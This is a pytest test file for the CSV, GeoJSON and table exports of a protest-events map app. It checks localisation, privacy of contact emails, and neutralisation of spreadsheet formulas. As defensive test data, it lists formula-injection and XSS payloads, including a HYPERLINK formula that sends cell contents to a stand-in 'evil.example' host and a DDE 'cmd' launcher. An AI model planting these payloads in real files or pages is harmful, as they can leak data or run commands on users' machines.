"""Views and files: the events table, literal Markdown, CSV and GeoJSON exports, the template."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import math

import pytest

from speakout_map.events.model import COLUMNS, PRIVATE_COLUMNS, Event, Status
from speakout_map.places.place import Place, PlacedEvent
from speakout_map.events.reading import parse_events_text, read_events_file
from speakout_map.events.export import (
    TABLE_COLUMNS,
    TEMPLATE_EVENT,
    events_to_csv,
    events_to_csv_bytes,
    events_to_geojson,
    events_to_rows,
    geojson_text,
    link_column,
    neutralise_cell,
    neutralise_rows,
    table_columns,
    table_rows,
    template_csv,
)
from speakout_map.languages.translator import english
from speakout_map.settings import PROJECT_ROOT
from tests.i18n_support import fake_translator


def placed(**fields) -> PlacedEvent:
    base = {"city": "Madrid", "country_code": "ES", "date": dt.date(2013, 9, 3)}
    event = Event(**{**base, **fields})
    return PlacedEvent(event, Place(event.city, event.country_code, 40.4, -3.7))


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({}, {"Date": "Tue 3 Sep 2013", "Time": "", "Country": "Spain", "Event": "Speak out in Madrid",
              "Venue": "", "Status": "Confirmed", "Link": ""}),
        ({"start_time": dt.time(18, 30), "end_time": dt.time(20), "venue": "Embassy", "address": "Calle 1",
          "status": Status.DETAILS_TO_COME, "url": "https://example.org", "title": "Rally"},
         {"Time": "18:30–20:00", "Venue": "Embassy, Calle 1", "Status": "Details to come",
          "Link": "https://example.org", "Event": "Rally"}),
        ({"start_time": dt.time(9, 5)}, {"Time": "09:05"}),
        ({"end_time": dt.time(20)}, {"Time": ""}),
    ],
)
def test_table_rows(fields, expected):
    (row,) = table_rows([placed(**fields)])
    assert list(row) == list(TABLE_COLUMNS)
    assert {k: row[k] for k in expected} == expected


def test_table_columns_in_english():
    assert table_columns() == table_columns(english()) == TABLE_COLUMNS
    assert link_column() == TABLE_COLUMNS[-1] == "Link"


#: A Spanish catalogue of the table's words (the real one is written elsewhere).
SPANISH_TABLE = {
    "Date": "Fecha", "Time": "Hora", "City": "Ciudad", "Country": "País", "Event": "Evento", "Venue": "Lugar",
    "Status": "Estado", "Link": "Enlace", "Confirmed": "Confirmado", "Details to come": "Detalles por confirmar",
    "Speak out in {city}": "Alza la voz en {city}", "{start}\u2013{end}": "de {start} a {end}",
}
SPANISH_COLUMNS = ("Fecha", "Hora", "Ciudad", "País", "Evento", "Lugar", "Estado", "Enlace")


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({}, {"Fecha": "mar, 3 sept 2013", "Hora": "", "Ciudad": "Madrid", "País": "España",
              "Evento": "Alza la voz en Madrid", "Lugar": "", "Estado": "Confirmado", "Enlace": ""}),
        ({"start_time": dt.time(18, 30), "end_time": dt.time(20), "venue": "Embajada", "address": "Calle 1",
          "status": Status.DETAILS_TO_COME, "url": "https://example.org", "title": "Rally", "country_code": "GB",
          "city": "London"},
         {"Fecha": "mar, 3 sept 2013", "Hora": "de 18:30 a 20:00", "Ciudad": "London", "País": "Reino Unido",
          "Evento": "Rally", "Lugar": "Embajada, Calle 1", "Estado": "Detalles por confirmar",
          "Enlace": "https://example.org"}),
        ({"start_time": dt.time(9, 5)}, {"Hora": "09:05"}),
    ],
)
def test_table_rows_in_the_readers_language(fields, expected):
    spanish = fake_translator(SPANISH_TABLE, language="es")
    assert table_columns(spanish) == SPANISH_COLUMNS
    assert link_column(spanish) == "Enlace"
    (row,) = table_rows([placed(**fields)], spanish)
    assert tuple(row) == SPANISH_COLUMNS
    assert {k: row[k] for k in expected} == expected


def test_table_values_are_localised_even_without_translations():
    """Dates and countries come from Babel's Spanish, whatever the catalogue holds."""
    (row,) = table_rows([placed()], fake_translator({}, language="es"))
    assert tuple(row) == TABLE_COLUMNS  # no translations yet: English headers and words
    assert (row["Date"], row["Country"], row["Status"], row["Event"]) == (
        "mar, 3 sept 2013", "España", "Confirmed", "Speak out in Madrid")


def test_table_with_two_same_headers_keeps_every_column(caplog):
    """A catalogue that gives two columns one header would lose a column: the English headers are used."""
    careless = fake_translator({**SPANISH_TABLE, "City": "Lugar"}, language="es")
    assert table_columns(careless) == TABLE_COLUMNS
    (row,) = table_rows([placed(venue="Sol")], careless)
    assert len(row) == len(TABLE_COLUMNS) and row["Venue"] == "Sol" and row["Country"] == "España"
    assert "not all different" in caplog.text


def test_table_never_has_contact_email():
    (row,) = table_rows([placed(contact_email="secret@example.org")])
    assert "secret@example.org" not in row.values()


# --- CSV export: the upload format, safe in a spreadsheet, round-trips --------------


def test_rows_round_trip_and_keep_contact_private():
    result = read_events_file(PROJECT_ROOT / "data" / "events.csv")
    public = events_to_rows(result.events)
    assert "contact_email" not in public[0]
    private = events_to_rows(result.events, include_private=True)
    assert list(private[0]) == list(COLUMNS)
    lines = [",".join(COLUMNS)] + [",".join(f'"{v}"' for v in row.values()) for row in private]
    again = parse_events_text("\n".join(lines))
    assert again.ok
    assert [(e.city, e.country_code, e.status) for e in again.events] == [
        (e.city, e.country_code, e.status) for e in result.events
    ]


FULL = Event(
    city="Madrid", country_code="ES", date=dt.date(2013, 9, 3), title="Rally", start_time=dt.time(18, 30),
    end_time=dt.time(20), venue="Embassy", address="Calle Velázquez 155, 28006", url="https://example.org/e?a=1&b=2",
    status=Status.DETAILS_TO_COME, organiser="All Out", contact_email="host@example.org",
    description='Bring a "poster",\nand a friend', latitude=40.4168, longitude=-3.7038, row=7,
)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def without_row(events):
    return [dataclasses.replace(e, row=0) for e in events]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''-1", "'''-1"),
        ("'quoted'", "'quoted'"),
        ("a=1", "a=1"),
        ("", ""),
        ("Madrid", "Madrid"),
    ],
)
def test_neutralise_cell(text, expected):
    assert neutralise_cell(text) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("https://example.org/e?a=1", "https://example.org/e?a=1"),
        ("Madrid", "Madrid"),
        ("", ""),
        ("-3.7038", "-3.7038"),
        ("+34", "+34"),
        ("-1e5", "-1e5"),
        ("-", "'-"),
        ("-3 rally", "'-3 rally"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        (dt.date(2013, 9, 3), dt.date(2013, 9, 3)),
    ],
)
def test_neutralise_rows(value, expected):
    """Every text cell of a downloadable table as safe as the CSV export; numbers and other values as they are."""
    assert neutralise_rows([{"a": value, "b": "plain"}]) == [{"a": expected, "b": "plain"}]


def test_neutralised_public_table_keeps_its_columns_and_links():
    hostile = placed(title="=1+1", venue='=HYPERLINK("http://evil","x")', url="https://example.org/e")
    (row,) = neutralise_rows(table_rows([hostile]))
    assert list(row) == list(TABLE_COLUMNS)
    assert (row["Event"], row["Venue"], row["Link"]) == ("'=1+1", '\'=HYPERLINK("http://evil","x")',
                                                         "https://example.org/e")


@pytest.mark.parametrize("include_private", [False, True])
def test_csv_header_and_privacy(include_private):
    text = events_to_csv([FULL], include_private=include_private)
    header, row = csv_cells(text)
    expected = [c for c in COLUMNS if include_private or c not in PRIVATE_COLUMNS]
    assert header == expected
    assert ("host@example.org" in text) is include_private
    assert ("contact_email" in text) is include_private
    assert dict(zip(header, row))["latitude"] == "40.4168"


def test_csv_starts_with_bom_and_uses_crlf():
    text = events_to_csv([FULL], include_private=False)
    assert text.startswith("\ufeffcity,country,date,")
    assert text.endswith("\r\n")
    assert not events_to_csv([FULL], include_private=False, bom=False).startswith("\ufeff")
    assert events_to_csv_bytes([FULL], include_private=False).startswith(b"\xef\xbb\xbfcity,")


HOSTILE_TEXT = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1)",
    "-2+3",
    "+33 1 23 45 67 89",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "''-twice",
    "'plain apostrophe",
    "\t=tab first",
    "\r=cr first",
    "<script>alert(1)</script>",
    'He said "hi", then; left\ttab',
    "multi\nline\r\nwith CRLF",
    "Ünïcödé € ✊ 🇪🇸",
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
@pytest.mark.parametrize("column", ["title", "venue", "address", "organiser", "description", "city"])
def test_csv_round_trips_hostile_text(text, column):
    event = dataclasses.replace(FULL, **{column: text})
    exported = events_to_csv([event], include_private=True)
    again = parse_events_text(exported)
    assert again.ok, again.errors
    assert without_row(again.events) == without_row([event])


@pytest.mark.parametrize("text", ["=1+1", "-2+3", "@SUM(A1)", "+1"])
def test_csv_neutralises_formulas_in_text_cells(text):
    exported = events_to_csv([dataclasses.replace(FULL, title=text, organiser=text)], include_private=False)
    row = dict(zip(*csv_cells(exported)))
    assert row["title"] == "'" + text and row["organiser"] == "'" + text


def test_csv_keeps_numbers_dates_and_times_as_they_are():
    event = dataclasses.replace(FULL, latitude=-33.4489, longitude=-70.6693)
    row = dict(zip(*csv_cells(events_to_csv([event], include_private=False))))
    assert (row["latitude"], row["longitude"]) == ("-33.4489", "-70.6693")
    assert (row["date"], row["start_time"], row["end_time"]) == ("2013-09-03", "18:30", "20:00")


def test_no_text_cell_of_an_export_starts_like_a_formula():
    events = [dataclasses.replace(FULL, title=t, description=t) for t in HOSTILE_TEXT]
    header, *rows = csv_cells(events_to_csv(events, include_private=True))
    for row in rows:
        for column, cell in zip(header, row):
            if column not in ("latitude", "longitude"):
                assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_seed_round_trips_through_csv():
    seed = read_events_file(PROJECT_ROOT / "data" / "events.csv").events
    again = parse_events_text(events_to_csv(seed, include_private=True))
    assert again.ok and again.warnings == ()
    assert without_row(again.events) == without_row(seed)
    assert [e.row for e in again.events] == [e.row for e in seed]


@pytest.mark.parametrize("include_private", [False, True])
def test_csv_with_the_going_counts(include_private):
    seed = read_events_file(PROJECT_ROOT / "data" / "events.csv").events
    counts = list(range(len(seed)))
    header, *rows = csv_cells(events_to_csv(seed, include_private=include_private, going=counts))
    assert header[-1] == "going" and [int(row[-1]) for row in rows] == counts
    again = parse_events_text(events_to_csv(seed, include_private=True, going=counts))
    assert again.ok and again.warnings == ()  # the read-only column is ignored on upload, silently
    assert without_row(again.events) == without_row(seed)


@pytest.mark.parametrize("going", [None, True])
def test_csv_with_the_ids_last_reads_back_without_a_warning(going):
    from speakout_map.events.identity import event_uids

    seed = read_events_file(PROJECT_ROOT / "data" / "events.csv").events
    counts = [3] * len(seed) if going else None
    text = events_to_csv(seed, include_private=True, going=counts, ids=event_uids(seed))
    header, *rows = csv_cells(text)
    assert header[-2:] == (["going", "id"] if going else [COLUMNS[-1], "id"])
    assert [row[-1] for row in rows] == event_uids(seed)
    again = parse_events_text(text)
    assert again.ok and again.warnings == ()  # read-only: not part of an event, silently
    assert without_row(again.events) == without_row(seed)
    assert again.ids == tuple((event.row, uid) for event, uid in zip(again.events, event_uids(seed)))
    with pytest.raises(ValueError):
        events_to_csv(seed, include_private=False, ids=[])


def test_going_needs_one_count_per_event():
    with pytest.raises(ValueError):
        events_to_csv([FULL], include_private=False, going=[1, 2])
    with pytest.raises(ValueError):
        events_to_geojson([placed_at(FULL, 40.0, -3.0)], going=[])


def test_geojson_with_the_going_counts():
    features = events_to_geojson([placed_at(FULL, 40.0, -3.0)], going=[23])["features"]
    assert features[0]["properties"]["going"] == 23
    assert "going" not in events_to_geojson([placed_at(FULL, 40.0, -3.0)])["features"][0]["properties"]


def test_empty_export_is_just_the_header():
    assert csv_cells(events_to_csv([], include_private=False)) == [[c for c in COLUMNS if c not in PRIVATE_COLUMNS]]


# --- GeoJSON -----------------------------------------------------------------------


def placed_at(event: Event, lat: float, lon: float, tz: str = "Europe/Madrid") -> PlacedEvent:
    return PlacedEvent(event, Place(event.city, event.country_code, lat, lon, tz))


def test_geojson_is_a_feature_collection_of_points():
    events = [placed_at(FULL, 40.4168, -3.7038), placed_at(dataclasses.replace(FULL, city="Vancouver", country_code="CA",
                                                                               latitude=None, longitude=None),
                                                          49.2827, -123.1207, "America/Vancouver")]
    collection = events_to_geojson(events)
    assert set(collection) == {"type", "features"} and collection["type"] == "FeatureCollection"
    madrid, vancouver = collection["features"]
    for feature in (madrid, vancouver):
        assert set(feature) == {"type", "geometry", "properties"} and feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert isinstance(lon, float) and isinstance(lat, float)
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert set(feature["properties"]) == {c for c in COLUMNS if c not in PRIVATE_COLUMNS} | {"timezone"}
    assert madrid["geometry"]["coordinates"] == [-3.7038, 40.4168], "RFC 7946: longitude first"
    assert vancouver["geometry"]["coordinates"] == [-123.1207, 49.2827]
    assert (vancouver["properties"]["latitude"], vancouver["properties"]["longitude"]) == (49.2827, -123.1207)
    assert vancouver["properties"]["timezone"] == "America/Vancouver"
    assert madrid["properties"]["start_time"] == "18:30" and madrid["properties"]["url"] == FULL.url


def test_geojson_keeps_contact_private_unless_asked():
    event = placed_at(FULL, 40.4, -3.7)
    public = geojson_text([event])
    assert "host@example.org" not in public and "contact_email" not in public
    private = events_to_geojson([event], include_private=True)
    assert private["features"][0]["properties"]["contact_email"] == "host@example.org"


def test_geojson_text_is_json_with_hostile_text_as_data():
    event = placed_at(dataclasses.replace(FULL, title='</script><script>alert(1)</script>', description="=1+1"), 40.4, -3.7)
    text = geojson_text([event])
    parsed = json.loads(text)
    assert parsed == events_to_geojson([event])
    assert parsed["features"][0]["properties"]["title"] == "</script><script>alert(1)</script>"
    assert parsed["features"][0]["properties"]["description"] == "=1+1", "GeoJSON is not a spreadsheet: no apostrophe"
    assert json.loads(geojson_text([])) == {"type": "FeatureCollection", "features": []}


@pytest.mark.parametrize(("lat", "lon"), [(math.nan, 0.0), (0.0, math.inf), (91.0, 0.0), (0.0, -181.0)])
def test_geojson_refuses_impossible_coordinates(lat, lon):
    with pytest.raises(ValueError):
        events_to_geojson([placed_at(FULL, lat, lon)])


# --- the template ------------------------------------------------------------------


def test_template_has_every_column_and_a_valid_example():
    text = template_csv()
    header, example = csv_cells(text)
    assert header == list(COLUMNS)
    row = dict(zip(header, example))
    assert row["country"] == "Spain" and row["url"].startswith("https://example.org/")
    result = parse_events_text(text)
    assert result.ok and result.warnings == () and result.rows == 1
    (event,) = result.events
    assert dataclasses.replace(event, row=0) == TEMPLATE_EVENT
    assert parse_events_text(text, today=dt.date(2013, 9, 3)).warnings == ()
    assert "Russia" not in text  # nothing of one campaign in the code's example


def test_the_template_example_takes_the_campaigns_day():
    (event,) = parse_events_text(template_csv(day=dt.date(2027, 5, 17))).events
    assert event.date == dt.date(2027, 5, 17)
